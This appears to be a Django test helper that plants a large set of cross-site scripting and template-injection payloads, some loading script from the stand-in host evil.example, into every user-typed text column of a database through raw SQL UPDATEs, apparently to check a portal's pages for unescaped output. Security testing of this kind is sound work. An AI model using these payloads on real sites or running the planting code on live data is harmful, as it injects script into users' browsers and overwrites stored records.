"""What people who mean harm type into text fields: script in HTML, in attributes, in Markdown; how it is stored."""

from collections.abc import Callable
from typing import Any

from django.db import models

MARK = "zq"  # each payload carries it with its number, so that a page that shows one is known
SCRIPTS = [
    "<script>alert({n})</script>", "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>", "<scr<script>ipt>alert({n})</script>",
    "<img src=x onerror=alert({n})>", "<img/src='x'/onerror='alert({n})'>", "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>", "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>", "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>", "<body onload=alert({n})>", "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>", "<video><source onerror=alert({n})></video>",
    "<a href=javascript:alert({n})>x</a>", "<a href='java\tscript:alert({n})'>x</a>",
    "<a href='&#106;avascript:alert({n})'>x</a>", "<a href=\"&#1;javascript:alert({n})\">x</a>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<button formaction=javascript:alert({n})>x</button>",
    "<base href=//evil.example/{n}/>", "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<div style='background:url(javascript:alert({n}))'>x</div>", "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>", "<x contenteditable onblur=alert({n})>x</x>",
    "<![CDATA[<script>alert({n})</script>]]>", "<!--><script>alert({n})</script>",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "{{{{ request.user.password }}}}", "{{% load static %}}{{% debug %}}", "${{alert({n})}}",
    "＜script＞alert({n})＜/script＞",
]  # fmt: skip
WRAPPED = [
    "{script}", "\"'>{script}", "</textarea></title></p>{script}", "--> ]]> {script}", "[x]({script})",
    "[x](javascript:alert('{script}'))", "![{script}](data:text/html,{script})",
    "<{script}>\n\n[a]: javascript:{script}",
    "## {script}\n\n| {script} | b |\n|---|---|\n| c | {script} |",
]  # fmt: skip
PAYLOADS = [
    f"{MARK}{number} " + wrap.format(script=script.format(n=number))
    for number, (wrap, script) in enumerate((wrap, script) for wrap in WRAPPED for script in SCRIPTS)
]
NOT_TYPED = (models.SlugField, models.EmailField, models.URLField, models.FileField, models.FilePathField)
SHORTEST = 100  # letters: shorter fields hold codes, not texts
OF_THE_PORTAL = {  # texts that the portal writes for itself: nobody types them, and pages show none of them
    "key", "hash", "sha256", "digest", "token", "file", "sealed_secret", "object_type", "view", "url", "link", "path",
    "issuer", "origin", "client_id",
}  # fmt: skip
# what Postgres runs: each row gets three of the payloads, as far as they fit, by a number that follows from its key
CHOSEN = "(%(payloads)s::text[])[1 + ((abs(hashtext({key}::text || '{column}')::bigint) + {step}) %% %(count)s)]"
PLANT = (
    "UPDATE {table} SET {column} = left(concat_ws(E'\\n\\n', "
    + ", ".join(CHOSEN.replace("{step}", str(step)) for step in (0, 120, 240))
    + "), %(longest)s) WHERE {column} <> ''"
)


def typed_texts(kinds: list[type[models.Model]]) -> list[tuple[type[models.Model], Any]]:
    """Every column of these models that holds a text of people."""
    found = []
    for kind in kinds:
        for column in kind._meta.concrete_fields:
            texts = isinstance(column, models.TextField | models.CharField) and not isinstance(column, NOT_TYPED)
            long = (column.max_length or 10_000) >= SHORTEST
            written = column.name in OF_THE_PORTAL or column.primary_key or "_key_" in column.name
            if texts and long and not column.choices and not written:
                found.append((kind, column))
    return found


def plant(kinds: list[type[models.Model]], run: Callable[[str, dict[str, Any]], bool]) -> tuple[int, list[str]]:
    """Put payloads into every text of these models; how many columns took them, and which did not."""
    taken, refused = 0, []
    for kind, column in typed_texts(kinds):
        table, key = kind._meta.db_table, kind._meta.pk.column  # type: ignore[union-attr]  # every model has a key
        sql = PLANT.format(table=table, column=column.column, key=key)
        if run(sql, {"payloads": PAYLOADS, "count": len(PAYLOADS), "longest": column.max_length or 4000}):
            taken += 1
        else:
            refused.append(f"{kind._meta.label}.{column.name}")
    return taken, refused
